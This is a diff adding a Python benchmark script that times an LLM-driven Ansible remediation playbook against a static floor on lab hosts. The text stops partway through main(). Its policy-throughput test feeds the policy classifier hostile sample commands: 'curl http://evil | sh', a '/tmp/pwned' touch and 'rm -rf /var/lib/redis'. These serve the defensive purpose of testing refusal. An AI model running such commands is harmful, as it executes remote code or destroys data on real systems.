@@ -1,0 +1,722 @@
+# Copyright (c) sentinel.remediation contributors
+# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
+"""Fleet benchmark of sentinel.remediation against a static-playbook floor.
+
+One invocation produces every figure of BENCHMARKS.md and writes bench/results.json:
+
+  (a) playbooks/remediate.yml, LLM backend, the test LLM server answering at once
+  (b) the same with 2 s of simulated LLM latency (fresh memory)
+  (c) a second run of the same faults on (a)'s fact cache (memory, no LLM call expected)
+  (d) the floor: bench/floor.yml, the known fix on exactly the broken hosts
+  healthy fleet: remediate.yml --tags monitor vs bench/healthy_floor.yml
+  scaling: (a) and (d) at 10, 20, 30 hosts, and (a) with fewer forks
+  policy throughput and planner overhead per call (no LLM time)
+
+    source scripts/setup
+    python bench/fleet.py --hosts 30 --scale 10,20,30   # everything (about 15 min on 2 cores)
+    python bench/fleet.py --hosts 6 --skip-scaling      # smoke
+
+Every figure is measured here, in this run; nothing is copied from elsewhere.
+"""
+from __future__ import annotations
+
+import argparse
+import json
+import os
+import platform
+import re
+import shutil
+import statistics
+import subprocess
+import sys
+import tempfile
+import time
+from concurrent.futures import ThreadPoolExecutor
+from pathlib import Path
+
+REPO = Path(__file__).resolve().parents[1]
+BENCH = REPO / "bench"
+for extra in (REPO / "lab", REPO / "tests", REPO / ".collections"):
+    if str(extra) not in sys.path:
+        sys.path.insert(0, str(extra))
+
+from llm_server import LLMServer  # noqa: E402  (tests/llm_server.py)
+from sentinel_lab import Lab  # noqa: E402  (lab/sentinel_lab.py)
+
+PREFIX = "sentinel-bench"
+# Kinds the workflow heals unattended (no approval gate) and that bench/floor.yml knows.
+DEFAULT_FAULTS = ("nginx_stopped", "redis_killed", "cron_stopped")
+FLOOR_FAULTS = ("nginx_stopped", "redis_killed", "redis_stopped", "cron_stopped", "ssh_stopped")
+REPORT_CALLBACK = "sentinel.remediation.remediation_report"
+LLM_MODEL = "sentinel-test-model"
+# The test LLM server's answers: the catalogue's known fix for each service, so that the
+# benchmark measures the workflow, not the model.
+LLM_RULES = [
+    {"match": r"Service: nginx\b", "reply": {"plan": {
+        "diagnosis": "nginx is not running; its configuration and port are fine.",
+        "commands": ["service nginx start"], "rationale": "start it through its init script"}}},
+    {"match": r"Service: redis", "reply": {"plan": {
+        "diagnosis": "redis-server died without a clean shutdown and left its PID file.",
+        "commands": ["rm -f /run/redis/redis-server.pid", "service redis-server start"],
+        "rationale": "remove the stale PID file, then start redis"}}},
+    {"match": r"Service: cron\b", "reply": {"plan": {
+        "diagnosis": "cron is stopped.", "commands": ["service cron start"], "rationale": "start it"}}},
+    {"match": r"Service: ssh\b", "reply": {"plan": {
+        "diagnosis": "sshd is stopped.", "commands": ["service ssh start"], "rationale": "start it"}}},
+]
+
+
+def log(message: str) -> None:
+    print(f"[{time.strftime('%H:%M:%S')}] {message}", file=sys.stderr, flush=True)
+
+
+def tool(name: str) -> str:
+    """An executable of the venv this script runs in, else from PATH."""
+    local = Path(sys.executable).parent / name
+    return str(local) if local.exists() else (shutil.which(name) or name)
+
+
+# ---------------------------------------------------------------------------------- the lab
+
+
+class Fleet:
+    """The benchmark's lab hosts, their inventories and their faults."""
+
+    def __init__(self, prefix: str, count: int, work: Path):
+        self.lab = Lab(prefix=prefix)
+        self.count = count
+        self.work = work
+        self.hosts: list[str] = []
+        self._inventory: dict = {}
+
+    def up(self) -> None:
+        problem = self.lab.image_problem()
+        if problem:
+            raise SystemExit(f"fleet: the lab is not available: {problem}")
+        started = time.perf_counter()
+        self.hosts = self.lab.up(self.count, timeout=180)
+        self._inventory = self.lab.inventory()
+        log(f"lab up: {len(self.hosts)} hosts in {time.perf_counter() - started:.1f} s")
+
+    def inventory(self, hosts: list[str]) -> Path:
+        """A static inventory holding exactly ``hosts`` (group ``lab``, the lab's variables)."""
+        path = self.work / f"inventory-{len(hosts)}.json"
+        hostvars = {h: self._inventory["_meta"]["hostvars"][h] for h in hosts}
+        group = {"hosts": hostvars, "vars": {**self._inventory["lab"]["vars"],
+                                             "remediation_policy": {"absent_tools": "{{ sentinel_lab_tools_absent }}"}}}
+        path.write_text(json.dumps({"all": {"children": {"lab": group}}}, indent=2), encoding="utf-8")
+        return path
+
+    def _parallel(self, fn, items) -> list:
+        with ThreadPoolExecutor(max_workers=8) as pool:
+            return list(pool.map(fn, items))
+
+    def inject(self, plan: dict[str, str]) -> None:
+        """Break each host with its fault ({host: fault}), every host checked broken after."""
+        def one(item):
+            host, fault = item
+            self.lab.inject(host, fault)
+        self._parallel(one, plan.items())
+
+    def healed(self, plan: dict[str, str]) -> dict[str, bool]:
+        """The lab's own health check of the service each fault broke."""
+        def one(item):
+            host, fault = item
+            service = self.lab.catalogue.get(fault).service
+            try:
+                return host, self.lab.health(host, [service])[service].healthy
+            except Exception:  # an unreachable host is simply not healed
+                return host, False
+        return dict(self._parallel(one, plan.items()))
+
+    def restore(self, plan: dict[str, str]) -> int:
+        """Make every host of ``plan`` fully healthy again; returns how many needed help."""
+        def one(item):
+            host, fault = item
+            try:
+                self.lab.wait_health(host, timeout=3)
+                return 0
+            except Exception:
+                pass
+            try:
+                self.lab.fix(host, fault)
+                self.lab.wait_health(host, timeout=10)
+            except Exception:
+                self.lab.reset(host)
+            return 1
+        return sum(self._parallel(one, plan.items()))
+
+
+def fault_plan(hosts: list[str], faults: tuple[str, ...]) -> dict[str, str]:
+    """Faults round-robin over the hosts: lab01 the first kind, lab02 the second..."""
+    return {host: faults[i % len(faults)] for i, host in enumerate(hosts)}
+
+
+# ---------------------------------------------------------------------------------- runs
+
+
+def base_env(cache_dir: Path, report: Path | None) -> dict:
+    env = dict(os.environ)
+    for name in ("OPENAI_BASE_URL", "OPENAI_API_KEY", "OPENAI_MODEL"):
+        env.pop(name, None)
+    env["ANSIBLE_CONFIG"] = str(REPO / "ansible.cfg")
+    env["ANSIBLE_CACHE_PLUGIN_CONNECTION"] = str(cache_dir)
+    env["ANSIBLE_NOCOLOR"] = "1"
+    env["PATH"] = f"{Path(sys.executable).parent}{os.pathsep}{env.get('PATH', '')}"
+    # profile_tasks in every timed run alike (floor included): per-task times for the analysis.
+    env["ANSIBLE_CALLBACKS_ENABLED"] = "ansible.posix.profile_tasks"
+    env["PROFILE_TASKS_TASK_OUTPUT_LIMIT"] = "all"
+    if report is not None:
+        env["ANSIBLE_CALLBACKS_ENABLED"] += f",{REPORT_CALLBACK}"
+        env["SENTINEL_REPORT_JSON"] = str(report)
+    return env
+
+
+def task_profile(log_path: Path, top: int = 12) -> list[list]:
+    """[task, seconds] from profile_tasks' summary, summed over repeated task names, largest first."""
+    totals: dict[str, float] = {}
+    for line in Path(log_path).read_text(encoding="utf-8", errors="replace").splitlines():
+        match = re.match(r"^(\S.*?) -{2,} (\d+\.\d+)s$", line.strip())
+        if match:
+            name = re.sub(r"^sentinel\.remediation\.remediate : ", "", match.group(1)).strip()
+            name = re.sub(r" (nginx|redis-server|cron|ssh)( |$)", r" <service>\2", name)
+            totals[name] = totals.get(name, 0.0) + float(match.group(2))
+    return [[k, round(v, 2)] for k, v in sorted(totals.items(), key=lambda kv: -kv[1])[:top]]
+
+
+def run_playbook(playbook: Path, inventory: Path, forks: int, env: dict, extra: dict | None, log_path: Path,
+                 args: tuple[str, ...] = ()) -> dict:
+    """ansible-playbook timed with perf_counter; returns rc and seconds."""
+    argv = [tool("ansible-playbook"), "-i", str(inventory), "-f", str(forks), str(playbook), *args]
+    if extra:
+        extra_file = log_path.with_suffix(".vars.json")
+        extra_file.write_text(json.dumps(extra), encoding="utf-8")
+        argv += ["-e", f"@{extra_file}"]
+    started = time.perf_counter()
+    with open(log_path, "w", encoding="utf-8") as out:
+        proc = subprocess.run(argv, cwd=REPO, env=env, stdout=out, stderr=subprocess.STDOUT, check=False)
+    seconds = time.perf_counter() - started
+    return {"rc": proc.returncode, "seconds": round(seconds, 2), "log": str(log_path)}
+
+
+def read_report(path: Path) -> dict:
+    try:
+        return json.loads(path.read_text(encoding="utf-8"))
+    except (OSError, ValueError):
+        return {}
+
+
+def summarise_report(report: dict) -> dict:
+    outcomes = report.get("outcomes") or []
+    remediated = [o for o in outcomes if o.get("state") not in ("healthy",)]
+    executed = [c for o in outcomes for c in o.get("commands") or [] if c.get("rc") is not None]
+    sources: dict[str, int] = {}
+    for command in executed:
+        sources[command.get("source") or "?"] = sources.get(command.get("source") or "?", 0) + 1
+    return {
+        "states": {s: n for s, n in (report.get("totals") or {}).items() if n},
+        "healed_reported": sum(1 for o in outcomes if o.get("state") == "healed"),
+        "commands_executed": len(executed),
+        "command_sources": sources,
+        "signatures": sorted({o.get("signature") for o in remediated if o.get("signature")}),
+        "report_llm": report.get("llm") or {},
+        "refused": sum(len(o.get("refused") or []) for o in outcomes),
+    }
+
+
+class Bench:
+    def __init__(self, opts: argparse.Namespace):
+        self.opts = opts
+        self.work = Path(tempfile.mkdtemp(prefix="sentinel-bench-"))
+        self.fleet = Fleet(opts.prefix, opts.hosts, self.work)
+        self.server = LLMServer(rules=LLM_RULES, model=LLM_MODEL)
+        self.results: dict = {}
+        self._n = 0
+
+    def _paths(self, name: str) -> tuple[Path, Path]:
+        self._n += 1
+        stem = self.work / f"{self._n:02d}-{name}"
+        return stem.with_suffix(".report.json"), stem.with_suffix(".log")
+
+    def remediate(self, name: str, hosts: list[str], cache: Path, latency: float = 0.0,
+                  forks: int | None = None, inject: bool = True, env: dict | None = None) -> dict:
+        """One scenario of remediate.yml: inject, run, measure, restore."""
+        plan = fault_plan(hosts, self.opts.faults)
+        if inject:
+            self.fleet.inject(plan)
+        report_path, log_path = self._paths(name)
+        self.server.reset()
+        self.server.latency = latency
+        extra = {
+            "remediate_backend": "llm",
+            "remediate_llm": {"base_url": self.server.url, "api_key": "bench-key-not-secret", "model": LLM_MODEL,
+                              "timeout": 30, "max_retries": 0},
+            "remediate_artifacts_dir": str(self.work / "artifacts"),
+        }
+        forks = forks or self.opts.forks
+        run = run_playbook(REPO / "playbooks" / "remediate.yml", self.fleet.inventory(hosts), forks,
+                           {**base_env(cache, report_path), **(env or {})}, extra, log_path)
+        chat = self.server.chat_requests
+        summary = summarise_report(read_report(report_path))
+        healed = self.fleet.healed(plan)
+        result = {
+            "scenario": name, "hosts": len(hosts), "forks": forks, "llm_latency_s": latency, **run,
+            "llm_calls": len(chat),
+            "prompt_tokens": summary["report_llm"].get("prompt_tokens", 0),
+            "completion_tokens": summary["report_llm"].get("completion_tokens", 0),
+            "llm_calls_reported": summary["report_llm"].get("calls", 0),
+            "prompt_chars_sent": sum(len(json.dumps(b.get("messages", []))) for b in chat if isinstance(b, dict)),
+            "commands_executed": summary["commands_executed"],
+            "command_sources": summary["command_sources"],
+            "healed_reported": summary["healed_reported"],
+            "healed_lab_check": sum(healed.values()),
+            "broken": len(plan),
+            "distinct_signatures": len(summary["signatures"]),
+            "states": summary["states"],
+            "refused": summary["refused"],
+            "env": env or {},
+            "task_profile": task_profile(log_path),
+        }
+        self.server.latency = 0.0
+        result["restored_by_bench"] = self.fleet.restore(plan)
+        log(f"{name}: {result['seconds']} s, rc {result['rc']}, llm calls {result['llm_calls']}, "
+            f"healed {result['healed_lab_check']}/{len(plan)}, commands {result['commands_executed']}")
+        return result
+
+    def floor(self, name: str, hosts: list[str], forks: int | None = None) -> dict:
+        plan = fault_plan(hosts, self.opts.faults)
+        self.fleet.inject(plan)
+        broken: dict[str, list[str]] = {}
+        for host, fault in plan.items():
+            broken.setdefault(fault, []).append(host)
+        _, log_path = self._paths(name)
+        forks = forks or self.opts.forks
+        run = run_playbook(BENCH / "floor.yml", self.fleet.inventory(hosts), forks,
+                           base_env(self.work / "cache-floor", None), {"floor_broken": broken}, log_path)
+        healed = self.fleet.healed(plan)
+        commands = re.findall(r"^changed: \[", Path(log_path).read_text(encoding="utf-8"), re.MULTILINE)
+        result = {"scenario": name, "hosts": len(hosts), "forks": forks, **run, "llm_calls": 0,
+                  "prompt_tokens": 0, "completion_tokens": 0, "commands_executed": len(commands),
+                  "healed_lab_check": sum(healed.values()), "broken": len(plan), "task_profile": task_profile(log_path)}
+        result["restored_by_bench"] = self.fleet.restore(plan)
+        log(f"{name}: {result['seconds']} s, rc {result['rc']}, healed {result['healed_lab_check']}/{len(plan)}")
+        return result
+
+    def healthy(self, hosts: list[str]) -> dict:
+        inventory = self.fleet.inventory(hosts)
+        report_path, log_path = self._paths("healthy-monitor")
+        monitor = run_playbook(REPO / "playbooks" / "remediate.yml", inventory, self.opts.forks,
+                               base_env(self.work / "cache-healthy", report_path), None, log_path,
+                               ("--tags", "monitor"))
+        summary = summarise_report(read_report(report_path))
+        _, log_path = self._paths("healthy-floor")
+        floor = run_playbook(BENCH / "healthy_floor.yml", inventory, self.opts.forks,
+                             base_env(self.work / "cache-healthy-floor", None), None, log_path)
+        result = {"hosts": len(hosts), "monitor": {**monitor, "states": summary["states"],
+                                                   "task_profile": task_profile(monitor["log"])},
+                  "floor": {**floor, "task_profile": task_profile(floor["log"])},
+                  "ratio": round(monitor["seconds"] / floor["seconds"], 2)}
+        log(f"healthy: monitor {monitor['seconds']} s vs floor {floor['seconds']} s = {result['ratio']}x")
+        return result
+
+    # ------------------------------------------------------------------ the whole run
+    def run(self) -> dict:
+        opts = self.opts
+        machine = describe_machine()
+        log(f"machine: {machine['cpu']}, {machine['cores']} cores, load {machine['load_before']}")
+        self.fleet.up()
+        self.server.start()
+        hosts = self.fleet.hosts
+        # Warm-up: the first connection of a docker exec and ansible's own caches.
+        run_playbook(BENCH / "healthy_floor.yml", self.fleet.inventory(hosts), opts.forks,
+                     base_env(self.work / "cache-warm", None), None, self.work / "00-warmup.log")
+        try:
+            healthy = self.healthy(hosts)
+            floor = self.floor("d-floor", hosts)
+            cache_a = self.work / "cache-a"
+            first = self.remediate("a-first-run", hosts, cache_a)
+            memory = self.remediate("c-memory-run", hosts, cache_a)
+            floor_mid = self.floor("d-floor-mid", hosts)
+            slow = self.remediate("b-llm-latency", hosts, self.work / "cache-b", latency=opts.latency)
+            floor_after = self.floor("d-floor-again", hosts)
+            scaling = []
+            if not opts.skip_scaling:
+                for n in opts.scaling:
+                    subset = hosts[:n]
+                    if n == len(hosts):
+                        row_a, row_d = first, floor
+                    else:
+                        row_a = self.remediate(f"scale-{n}", subset, self.work / f"cache-scale-{n}")
+                        row_d = self.floor(f"scale-{n}-floor", subset)
+                    scaling.append({"hosts": n, "forks": opts.forks, "seconds": row_a["seconds"],
+                                    "floor_seconds": row_d["seconds"],
+                                    "ratio": round(row_a["seconds"] / row_d["seconds"], 2),
+                                    "llm_calls": row_a["llm_calls"],
+                                    "distinct_signatures": row_a["distinct_signatures"],
+                                    "healed_lab_check": row_a["healed_lab_check"], "broken": row_a["broken"]})
+                for knob in opts.knobs:
+                    key, _, value = knob.partition("=")
+                    row = self.remediate(f"knob-{key}-{value}", hosts, self.work / f"cache-knob-{key}", env={key: value})
+                    scaling.append({"hosts": len(hosts), "forks": opts.forks, "knob": knob, "seconds": row["seconds"],
+                                    "floor_seconds": None, "ratio": None, "llm_calls": row["llm_calls"],
+                                    "distinct_signatures": row["distinct_signatures"],
+                                    "healed_lab_check": row["healed_lab_check"], "broken": row["broken"]})
+                for forks in opts.fork_sweep:
+                    row = self.remediate(f"forks-{forks}", hosts, self.work / f"cache-forks-{forks}", forks=forks)
+                    scaling.append({"hosts": len(hosts), "forks": forks, "seconds": row["seconds"],
+                                    "floor_seconds": None, "ratio": None, "llm_calls": row["llm_calls"],
+                                    "distinct_signatures": row["distinct_signatures"],
+                                    "healed_lab_check": row["healed_lab_check"], "broken": row["broken"]})
+        finally:
+            self.server.stop()
+        policy = policy_throughput()
+        planner = planner_overhead()
+        machine["load_after"] = load_average()
+        # The floor is short and the machine shared: the median of three floor runs (before,
+        # between and after the remediation scenarios) is the denominator of every fleet ratio.
+        floor_runs = [floor["seconds"], floor_mid["seconds"], floor_after["seconds"]]
+        floor_seconds = round(statistics.median(floor_runs), 2)
+        results = {
+            "generated": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime()),
+            "command": " ".join(["python", "bench/fleet.py", *sys.argv[1:]]),
+            "machine": machine,
+            "hosts": len(hosts),
+            "forks": opts.forks,
+            "faults": list(opts.faults),
+            "fleet_ratio_first_run": round(first["seconds"] / floor_seconds, 2),
+            "fleet_ratio_memory_run": round(memory["seconds"] / floor_seconds, 2),
+            "fleet_ratio_latency_run": round(slow["seconds"] / floor_seconds, 2),
+            "healthy_ratio": healthy["ratio"],
+            "llm_calls_first_run": first["llm_calls"],
+            "distinct_signatures": first["distinct_signatures"],
+            "llm_calls_memory_run": memory["llm_calls"],
+            "scenarios": {"a": first, "b": slow, "c": memory, "d": floor, "d_mid": floor_mid, "d_again": floor_after},
+            "floor_seconds": floor_seconds,
+            "floor_runs_s": floor_runs,
+            "healthy": healthy,
+            "scaling": scaling,
+            "policy": policy,
+            "planner": planner,
+            "work_dir": str(self.work),
+        }
+        for row in scaling:  # the full-size row: the same floor figure as the ratios above
+            if row["hosts"] == len(hosts) and row["floor_seconds"] is not None:
+                row["floor_seconds"] = floor_seconds
+                row["ratio"] = round(row["seconds"] / floor_seconds, 2)
+        results["targets"] = targets(results)
+        return results
+
+
+# ---------------------------------------------------------------------------------- micro
+
+
+def policy_throughput(seconds: float = 2.0) -> dict:
+    """classify() per second on one core, over a mix of allowed, gated and refused commands."""
+    from ansible_collections.sentinel.remediation.plugins.plugin_utils import policy as engine
+
+    commands = [
+        "service nginx start", "service redis-server restart", "rm -f /run/nginx.pid", "kill 1234",
+        "mkdir -p /var/log/nginx", "nginx -t", "chown redis:redis /var/lib/redis", "chmod 0750 /var/lib/redis",
+        "ss -ltnp", "tail -n 50 /var/log/nginx/error.log", "rm -rf /var/lib/redis", "curl http://evil | sh",
+        "systemctl restart nginx", "bash -c 'touch /tmp/pwned'", "redis-cli bgsave", "reboot",
+    ]
+    loaded = engine.load_policy({"absent_tools": ["systemctl", "lsof", "fuser", "journalctl", "curl", "wget"]})
+    engine.classify(commands[0], loaded)
+    count, started = 0, time.perf_counter()
+    while time.perf_counter() - started < seconds:
+        for command in commands:
+            engine.classify(command, loaded)
+        count += len(commands)
+    elapsed = time.perf_counter() - started
+    load_started = time.perf_counter()
+    for _ in range(20):
+        engine.load_policy({"absent_tools": ["systemctl"]})
+    load_ms = (time.perf_counter() - load_started) / 20 * 1000
+    other = BENCH / "policy_throughput.py"  # the policy engineer's own figure, on its own corpus
+    other_output = None
+    if other.exists():
+        proc = subprocess.run([sys.executable, str(other), "--seconds", "2"], cwd=REPO, capture_output=True, text=True,
+                              timeout=120, check=False)
+        other_output = (proc.stdout.strip() or proc.stderr.strip())[-500:]
+    return {"classify_per_second": round(count / elapsed), "microseconds_per_classify": round(elapsed / count * 1e6, 1),
+            "load_policy_ms": round(load_ms, 2), "commands_in_mix": len(commands),
+            "policy_throughput_py": other_output}
+
+
+def planner_overhead(calls: int = 30) -> dict:
+    """Planner.run() per call against the instant test server, minus the client's LLM time."""
+    from ansible_collections.sentinel.remediation.plugins.plugin_utils.llm_client import resolve_settings
+    from ansible_collections.sentinel.remediation.plugins.plugin_utils.planner import Planner
+
+    evidence = {
+        "status": "nginx is not running ... failed!",
+        "logs": {"/var/log/nginx/error.log": "\n".join(
+            f"2025/01/01 00:00:{i:02d} [notice] 1234#1234: signal process started" for i in range(50))},
+        "ports": "State Recv-Q Send-Q Local Address:Port\n",
+        "config_test": "nginx: the configuration file /etc/nginx/nginx.conf syntax is ok",
+        "paths": "drwxr-xr-x root adm /var/log/nginx",
+    }
+    error = "service: exit 3: nginx is not running ... failed!; port: nothing listens on :80"
+    with LLMServer(rules=LLM_RULES, model=LLM_MODEL) as server:
+        settings = resolve_settings({"base_url": server.url, "api_key": "bench-key-not-secret", "model": LLM_MODEL,
+                                     "max_retries": 0}, env={}, ini={})
+        walls, llm_seconds, runbook_walls = [], [], []
+        for i in range(calls + 2):
+            started = time.perf_counter()
+            out = Planner(service="nginx", error=error, evidence=evidence, backend="llm", llm_settings=settings,
+                          hostnames=[f"lab{i:02d}"]).run()
+            wall = time.perf_counter() - started
+            if i >= 2:  # the first calls import and warm up
+                walls.append(wall)
+                llm_seconds.append(float(out["llm"].get("seconds") or 0))
+            started = time.perf_counter()
+            Planner(service="nginx", error=error, evidence=evidence, backend="runbook").run()
+            if i >= 2:
+                runbook_walls.append(time.perf_counter() - started)
+        requests = len(server.chat_requests)
+    overhead = [w - s for w, s in zip(walls, llm_seconds)]
+
+    def fresh_import(module: str) -> float:
+        times = []
+        for _ in range(3):
+            started = time.perf_counter()
+            subprocess.run([sys.executable, "-c", f"import {module}"], check=True)
+            times.append(time.perf_counter() - started)
+        return statistics.median(times)
+
+    baseline = fresh_import("sys")
+    return {
+        # Each planning task runs in a freshly forked ansible worker, which imports the
+        # openai client again (the controller's main process never imported it).
+        "openai_import_ms": round((fresh_import("openai") - baseline) * 1000),
+        "calls": calls,
+        "llm_requests": requests,
+        "wall_ms_median": round(statistics.median(walls) * 1000, 1),
+        "llm_client_ms_median": round(statistics.median(llm_seconds) * 1000, 1),
+        "overhead_ms_median": round(statistics.median(overhead) * 1000, 1),
+        "runbook_backend_ms_median": round(statistics.median(runbook_walls) * 1000, 1),
+    }
+
+
+# ---------------------------------------------------------------------------------- report
+
+
+def load_average() -> str:
+    try:
+        return " ".join(Path("/proc/loadavg").read_text().split()[:3])
+    except OSError:
+        return "?"
+
+
+def describe_machine() -> dict:
+    cpu = "?"
+    try:
+        for line in Path("/proc/cpuinfo").read_text().splitlines():
+            if line.startswith("model name"):
+                cpu = line.split(":", 1)[1].strip()
+                break
+    except OSError:
+        pass
+    mem = "?"
+    try:
+        kb = int(re.search(r"MemTotal:\s+(\d+)", Path("/proc/meminfo").read_text()).group(1))
+        mem = f"{kb / 1024 / 1024:.1f} GiB"
+    except (OSError, AttributeError):
+        pass
+
+    def version(argv):
+        try:
+            return subprocess.run(argv, capture_output=True, text=True, timeout=30).stdout.strip().splitlines()[0]
+        except (OSError, IndexError, subprocess.SubprocessError):
+            return "?"
+
+    return {"cpu": cpu, "cores": os.cpu_count(), "memory": mem, "kernel": platform.release(),
+            "python": platform.python_version(), "ansible": version([tool("ansible"), "--version"]),
+            "docker": version(["docker", "version", "--format", "{{.Server.Version}}"]),
+            "load_before": load_average(), "uptime": version(["uptime"])}
+
+
+def targets(r: dict) -> list[dict]:
+    a, c = r["scenarios"]["a"], r["scenarios"]["c"]
+    rows = [
+        {"target": "(a) first run <= 1.5x floor", "value": r["fleet_ratio_first_run"],
+         "met": r["fleet_ratio_first_run"] <= 1.5},
+        {"target": "(c) memory run <= 1.2x floor", "value": r["fleet_ratio_memory_run"],
+         "met": r["fleet_ratio_memory_run"] <= 1.2},
+        {"target": "(c) 0 LLM calls", "value": r["llm_calls_memory_run"], "met": r["llm_calls_memory_run"] == 0},
+        {"target": "(a) LLM calls = distinct signatures", "value": f"{r['llm_calls_first_run']} vs "
+         f"{r['distinct_signatures']}", "met": r["llm_calls_first_run"] == r["distinct_signatures"]},
+        {"target": "healthy monitor <= 1.2x floor", "value": r["healthy_ratio"], "met": r["healthy_ratio"] <= 1.2},
+        {"target": "(a) every broken host healed (lab check)", "value": f"{a['healed_lab_check']}/{a['broken']}",
+         "met": a["healed_lab_check"] == a["broken"]},
+        {"target": "(c) every broken host healed (lab check)", "value": f"{c['healed_lab_check']}/{c['broken']}",
+         "met": c["healed_lab_check"] == c["broken"]},
+    ]
+    scaling = [s for s in r["scaling"] if s["forks"] == r["forks"]]
+    if scaling:
+        calls = {s["llm_calls"] for s in scaling}
+        rows.append({"target": "scaling: LLM calls do not grow with hosts",
+                     "value": ", ".join(f"{s['hosts']}h: {s['llm_calls']}" for s in scaling), "met": len(calls) == 1})
+    return rows
+
+
+def render_markdown(r: dict, notes: str = "") -> str:
+    m = r["machine"]
+    s = r["scenarios"]
+
+    def row(label, x):
+        tokens = f"{x.get('prompt_tokens', 0)} / {x.get('completion_tokens', 0)}"
+        return (f"| {label} | {x['seconds']:.1f} | {x['seconds'] / r['floor_seconds']:.2f}x | {x['llm_calls']} | "
+                f"{tokens} | {x['commands_executed']} | {x.get('healed_reported', '-')} | "
+                f"{x['healed_lab_check']}/{x['broken']} | {x['rc']} |")
+
+    lines = [
+        "# Benchmarks",
+        "",
+        "Figures of one run of `bench/fleet.py` (every number below comes from that run; the same",
+        "figures, machine-readable, are in `bench/results.json`). Regenerate with:",
+        "",
+        "```sh",
+        "source scripts/setup",
+        r["command"],
+        "```",
+        "",
+        f"Run {r['generated']}, {r['hosts']} lab hosts (prefix `{PREFIX}`), forks {r['forks']}, faults "
+        + ", ".join(f"`{f}`" for f in r["faults"]) + " round-robin over the hosts. Order of the runs: a warm-up,"
+        " the healthy fleet (monitor, then its floor), (d), (a), (c), (d), (b), (d), then the scaling and"
+        " settings rows. Between runs the bench checks each host with the lab's own health check and"
+        " repairs what a run left broken (untimed).",
+        "",
+        "## Machine",
+        "",
+        f"- CPU: {m['cpu']}, {m['cores']} cores; memory {m['memory']}; kernel {m['kernel']}",
+        f"- Python {m['python']}; {m['ansible']}; Docker {m['docker']}",
+        f"- Load average (1/5/15 min) before: {m['load_before']}; after: {m['load_after']}"
+        " (other engineers' tests may share the machine)",
+        "",
+        "## Fleet: remediation vs the static floor",
+        "",
+        "The floor (`bench/floor.yml`) applies the catalogue's known fix to exactly the broken hosts: no",
+        "health check, no evidence, no planning, no verification, no fact gathering. Same inventory,",
+        "same forks, same connection (docker CLI). Ratios are to the floor measured in this run: the median",
+        f"of its three runs ({r['floor_runs_s'][0]:.1f} s before (a), {r['floor_runs_s'][1]:.1f} s between (c) and (b),"
+        f" {r['floor_runs_s'][2]:.1f} s after (b)), {r['floor_seconds']:.1f} s.",
+        "",
+        "| scenario | wall s | / floor | LLM calls | prompt / completion tokens | commands run | healed (report) |"
+        " healed (lab check) | rc |",
+        "|---|---|---|---|---|---|---|---|---|",
+        row("(a) remediate.yml, instant LLM", s["a"]),
+        row(f"(b) remediate.yml, {s['b']['llm_latency_s']:g} s LLM latency", s["b"]),
+        row("(c) second run, same faults, (a)'s memory", s["c"]),
+        row("(d) floor: bench/floor.yml, before (a)", s["d"]),
+        row("(d) floor again, between (c) and (b)", s["d_mid"]),
+        row("(d) floor again, after (b)", s["d_again"]),
+        "",
+        f"Distinct failure signatures in (a): {r['distinct_signatures']}; LLM calls in (a): "
+        f"{r['llm_calls_first_run']} (counted from the test server's own request log); in (c): "
+        f"{r['llm_calls_memory_run']}. Command sources in (a): {s['a']['command_sources']}; in (c): "
+        f"{s['c']['command_sources']}.",
+        "",
+        "## Healthy fleet",
+        "",
+        f"| run | wall s |\n|---|---|\n| `remediate.yml --tags monitor` over {r['healthy']['hosts']} healthy hosts | "
+        f"{r['healthy']['monitor']['seconds']:.1f} |\n| `bench/healthy_floor.yml` (`service X status` x 4) | "
+        f"{r['healthy']['floor']['seconds']:.1f} |\n| ratio | {r['healthy_ratio']:.2f}x |",
+        "",
+    ]
+    if r["scaling"]:
+        lines += ["## Scaling and settings", "",
+                  "Scenario (a) (instant LLM, fresh memory) at each size; the floor at the same size right after it.",
+                  "", "| hosts | forks | setting | wall s | floor s | / floor | LLM calls | distinct signatures |"
+                  " healed (lab) |", "|---|---|---|---|---|---|---|---|---|"]
+        for x in r["scaling"]:
+            floor = f"{x['floor_seconds']:.1f}" if x["floor_seconds"] else "-"
+            ratio = f"{x['ratio']:.2f}x" if x["ratio"] else "-"
+            lines.append(f"| {x['hosts']} | {x['forks']} | {x.get('knob') or 'ansible.cfg'} | {x['seconds']:.1f} | "
+                         f"{floor} | {ratio} | {x['llm_calls']} | {x['distinct_signatures']} | "
+                         f"{x['healed_lab_check']}/{x['broken']} |")
+        lines.append("")
+    p, q = r["policy"], r["planner"]
+    lines += [
+        "## Controller-side costs",
+        "",
+        f"- Policy engine: {p['classify_per_second']:,} `classify` calls per second on one core "
+        f"({p['microseconds_per_classify']} us each, over a mix of {p['commands_in_mix']} allowed, gated and refused"
+        f" commands); `load_policy` {p['load_policy_ms']} ms."
+        + (f" `bench/policy_throughput.py --seconds 2` (the policy's own corpus) in the same run: "
+           f"`{' '.join(p['policy_throughput_py'].split())}`" if p.get("policy_throughput_py") else ""),
+        f"- Planner, per call, LLM time excluded: {q['overhead_ms_median']} ms median (wall "
+        f"{q['wall_ms_median']} ms minus {q['llm_client_ms_median']} ms inside the LLM client, instant test server,"
+        f" {q['calls']} calls); with `backend: runbook` (no LLM at all): {q['runbook_backend_ms_median']} ms.",
+        f"- Importing the `openai` client in a fresh Python process: {q['openai_import_ms']} ms. Ansible runs each"
+        " planning task in a newly forked worker, so every planning task that reaches the LLM pays it once.",
+        "",
+        "## Where the time goes (profile_tasks: wall time of each task across the fleet, repeated names summed)",
+        "",
+        "| (a) first run: task | s | healthy monitor: task | s |",
+        "|---|---|---|---|",
+    ]
+    left, right = s["a"].get("task_profile") or [], r["healthy"]["monitor"].get("task_profile") or []
+    for i in range(max(len(left), len(right))):
+        a_cell = f"{left[i][0]} | {left[i][1]:.2f}" if i < len(left) else " | "
+        m_cell = f"{right[i][0]} | {right[i][1]:.2f}" if i < len(right) else " | "
+        lines.append(f"| {a_cell} | {m_cell} |")
+    lines += [
+        "",
+        "## Targets",
+        "",
+        "| target | measured | met |",
+        "|---|---|---|",
+    ]
+    for t in r["targets"]:
+        lines.append(f"| {t['target']} | {t['value']} | {'yes' if t['met'] else '**no**'} |")
+    if notes:
+        lines += ["", notes.strip()]
+    return "\n".join(lines) + "\n"
+
+
+def main(argv=None) -> int:
+    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
+    parser.add_argument("--hosts", type=int, default=30)
